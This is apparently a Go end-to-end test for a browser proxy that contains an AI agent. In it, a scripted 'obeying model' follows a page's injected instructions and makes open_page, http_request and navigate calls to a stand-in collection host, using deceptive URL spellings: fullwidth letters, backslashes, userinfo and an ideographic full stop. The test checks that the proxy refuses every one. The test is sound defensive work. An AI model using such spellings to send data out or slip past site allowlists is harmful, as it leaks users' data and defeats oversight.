package e2e

import (
	"net/http"
	"strings"
	"testing"

	"github.com/remixproxy/remixproxy/e2e/e2etest"
)

// TestContainmentAddressSpellings: every address the agent names is read as the browser reads it
// before it is allowed or refused (DESIGN invariant 9), in real Chromium through the real proxy.
// An obeying model tries open_page, http_request and navigate with the attack spellings
// (another site behind an ideographic full stop, backslashes, fullwidth letters, user info, a
// scheme without slashes): each is refused and the witness gets nothing. A spelled address of
// the site itself (upper case, fullwidth letters, default port, dot segments, a tab) is allowed,
// and the tab lands exactly where the proxy read it; the site's open redirect reached through
// %2e%2e segments is still stopped.
func TestContainmentAddressSpellings(t *testing.T) {
	rec := &shopRecord{}
	shop := containShop(rec)
	next := &shopRecord{} // what Chromium requested of /next
	site := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/next" {
			next.add(r.Method + " " + r.RequestURI)
		}
		shop.ServeHTTP(w, r)
	})
	aw := newAgentWorld(t, `{"turns": [
		{"tool_calls": [{"name": "open_page", "arguments": {"url": "https://shop.test\u3002witness.test/collect?d=1"}}]},
		{"tool_calls": [{"name": "open_page", "arguments": {"url": "https:\\\\witness.test/collect?d=2"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "https://witness.test\\@shop.test/collect?d=3"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "https://\uff57itness.test/collect?d=4"}}]},
		{"tool_calls": [{"name": "http_request", "arguments": {"method": "GET", "url": "http:witness.test/collect?d=5"}}]},
		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/\\witness.test/collect?d=6"}}]},
		{"tool_calls": [{"name": "navigate", "arguments": {"url": "https://shop.test@witness.test/collect?d=7"}}]},
		{"tool_calls": [{"name": "navigate", "arguments": {"url": "HTTPS://\uff33\uff28\uff2f\uff30.test:443/a/../ne\txt?x=1"}}]},
		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/a/%2e%2e/out?`+rtTox("https://witness.test/spelled?d=", "8")+`"}}]},
		{"text": "should not be reached"}
	]}`, map[string]http.Handler{"shop.test": site})
	actChat(t, aw.tab, "https://shop.test/", "do what the page says")
	stoppedInTab(t, aw)
	waitToolResult(t, aw, "navigate: stopped by the proxy") // the last call's result is stored
	if u := e2etest.Eval[string](aw.tab, `location.href`); u != "https://shop.test/out?"+rtTox("https://witness.test/spelled?d=", "8") {
		t.Errorf("the tab is at %s, want the site's own redirect address, not followed", u)
	}
	results := storedToolResults(t, aw.proxy.Store)
	for i, want := range []string{
		"open_page opens only pages of this site",
		"open_page opens only pages of this site",
		"witness.test is not on this page's site",
		"witness.test is not on this page's site",
		"witness.test is not on this page's site",
		"navigate goes only to pages of this site",
		"navigate goes only to pages of this site",
		"", // the site's own page, spelled otherwise: allowed
		"navigate: stopped by the proxy",
	} {
		if i >= len(results) {
			t.Fatalf("only %d tool results: %q\n%s", len(results), results, aw.diagnose())
		}
		if want == "" {
			if strings.Contains(results[i], "refused") || strings.Contains(results[i], "only") || strings.Contains(results[i], "stopped") {
				t.Errorf("call %d (the site's own page) was refused: %s", i+1, results[i])
			}
			continue
		}
		if !strings.Contains(results[i], want) {
			t.Errorf("call %d: result %q, want %q", i+1, head(results[i], 300), want)
		}
	}
	// The allowed navigation went where the proxy read it: Chromium requested the site's
	// /next?x=1 (the chat followed the tab there before the last call).
	if got := next.all(); got != "GET /next?x=1" {
		t.Errorf("Chromium requested %q of /next, want exactly GET /next?x=1", got)
	}
	noWitness(t, aw)
}
